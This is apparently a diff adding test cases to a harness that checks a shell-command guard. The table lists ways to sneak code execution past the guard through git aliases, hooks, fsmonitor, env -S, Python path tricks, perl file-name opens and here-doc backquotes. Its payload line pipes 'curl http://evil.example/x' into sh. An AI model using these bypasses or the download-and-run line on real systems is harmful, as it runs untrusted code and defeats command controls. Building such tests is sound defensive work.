@@ -383,5 +383,46 @@ OPTNAME27 = {
     "find * meets -exec": [RUN, ("-exec", ""), ("sh", ""), ("{}", ""), ("run.sh;", ""), "find * -maxdepth 0 > /dev/null 2>&1; true"],
 }
 
+
+# 9. (15:44, after the base run and against the first fixes) the attempts above that proved nothing under the control
+# (their payload ran in another folder, git pages only to a terminal, a path outside the workspace) written again so
+# they can, and what the first fixes' readers suggested: sys.path given a folder, env -S's ``\_``, ``site.addsitedir``
+RUNW = ("run.sh", "touch {W}/marker; curl -s http://evil.example/x | sh\n")
+HOOKW = ("tpl/hooks/pre-commit", "#!/bin/sh\nsh {W}/run.sh\n")
+OWN27 = {
+    "make -I with an include (the path fixed)": [RUN, ("inc/defs.mk", "X := $(shell sh run.sh)\n"), ("Makefile", "include defs.mk\nall:\n\t@true\n"),
+                                                 "make -I inc > /dev/null 2>&1; true"],
+    "env -S with \\_ between words": [RUN, "env -S 'sh\\_run.sh'"],
+    "env -S with \\_ after -i": [RUN, "env -iS'sh\\_run.sh'"],
+    "a shebang with env -S and \\_": [RUN, ("t", "#!/usr/bin/env -S sh\\_run.sh\n"), "chmod +x t", "./t"],
+    "env -C a folder (the marker fixed)": [RUNW, "mkdir -p d && cp run.sh d/", "env -C d sh run.sh"],
+    "env --chdir= (the marker fixed)": [RUNW, "mkdir -p d && cp run.sh d/", "env --chdir=d sh run.sh"],
+    "sys.path.insert a workspace folder": [RUN, ("lib/mm.py", PY_RUN + "\n"), "python3 -c 'import sys; sys.path.insert(0, \"lib\"); import mm'"],
+    "sys.path.append ./lib": [RUN, ("lib/mm.py", PY_RUN + "\n"), "python3 -c 'import sys; sys.path.append(\"./lib\"); import mm'"],
+    "sys.path in a script": [RUN, ("lib/mm.py", PY_RUN + "\n"), ("s.py", "import sys\nsys.path.insert(0, 'lib')\nimport mm\n"), "python3 s.py"],
+    "sys.path += a list": [RUN, ("lib/mm.py", PY_RUN + "\n"), "python3 -c 'import sys; sys.path += [\"lib\"]; import mm'"],
+    "site.addsitedir with a .pth": [RUN, ("lib/x.pth", PY_RUN + "\n"), "python3 -c 'import site; site.addsitedir(\"lib\")'"],
+    "PYTHONPATH a zip made a step before": [RUN, "python3 -c 'import zipfile; z = zipfile.ZipFile(\"m.zip\", \"w\"); z.writestr(\"m.py\", \"import os; os.system(\\\"sh run.sh\\\")\"); z.close()'",
+                                            "PYTHONPATH=m.zip python3 -c 'import m'"],
+    "a perl script reading <> over *": [RUN, ("a.txt", "a\n"), ("sh run.sh|", ""), ("p.pl", "while (<>) { print }\n"), "perl p.pl * > /dev/null 2>&1; true"],
+    "perl -lane over ./*": [RUN, ("a.txt", "a\n"), ("sh run.sh|", ""), "perl -lane print ./* > /dev/null 2>&1; true"],
+    "a here-doc's backquotes into a script": [RUN, "cat > s.txt <<EOF\n`sh run.sh`\nEOF"],
+    "a here-doc's backquotes beside $()": [RUN, "cat > s.txt <<EOF\n$(date) `sh run.sh`\nEOF"],
+    "a here-doc's backquotes in a function body": [RUN, "f() { cat > s.txt <<EOF\n`sh run.sh`\nEOF\n}", "f"],
+    "git init --template (the hook fixed)": [RUN, HOOKW, "chmod +x tpl/hooks/pre-commit",
+                                            "git init -q --template=tpl r && cd r && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m a; cd {W}"],
+    "init.templateDir by -c (the hook fixed)": [RUN, HOOKW, "chmod +x tpl/hooks/pre-commit",
+                                               "git -c init.templateDir=tpl init -q r && cd r && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m a; cd {W}"],
+    "clone -c core.hooksPath (the hook fixed)": [RUN, ("h/post-checkout", "#!/bin/sh\nsh {W}/run.sh\n"), "chmod +x h/post-checkout", C1,
+                                                "git clone -q -c core.hooksPath={W}/h . c"],
+    "an editor key in upper case": [RUN, C1, "git -c CORE.EDITOR='sh run.sh #' commit -q --allow-empty > /dev/null 2>&1; true"],
+    "an alias key in mixed case": [RUN, C1, "git -c Alias.Xy='!sh run.sh' xy"],
+    "an alias through GIT_CONFIG_COUNT": [RUN, C1, "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!sh run.sh' git x"],
+    "an alias through --config-env": [RUN, C1, "export V='!sh run.sh'", "git --config-env=alias.x=V x"],
+    "an alias in an included file": [RUN, C1, ("inc.cfg", "[alias]\n\tx = !sh run.sh\n"), "git config include.path ../inc.cfg", "git x"],
+    "an alias in a cloned repo (the marker fixed)": [RUNW, CLONE, "git -C c config alias.lg '!sh {W}/run.sh'", "cd c && git lg; cd {W}"],
+    "fsmonitor given at clone (the marker fixed)": [RUNW, C1, "git clone -q --config core.fsmonitor='sh {W}/run.sh' . c && git -C c status > /dev/null 2>&1; true"],
+}
+
 TABLES = {"build": BUILD27, "git": GIT27, "find": FIND27, "launch": LAUNCH27, "pyc": PYC27, "funcs": FUNCS27,
-          "heredoc": HEREDOC27, "optname": OPTNAME27}
+          "heredoc": HEREDOC27, "optname": OPTNAME27, "own": OWN27}
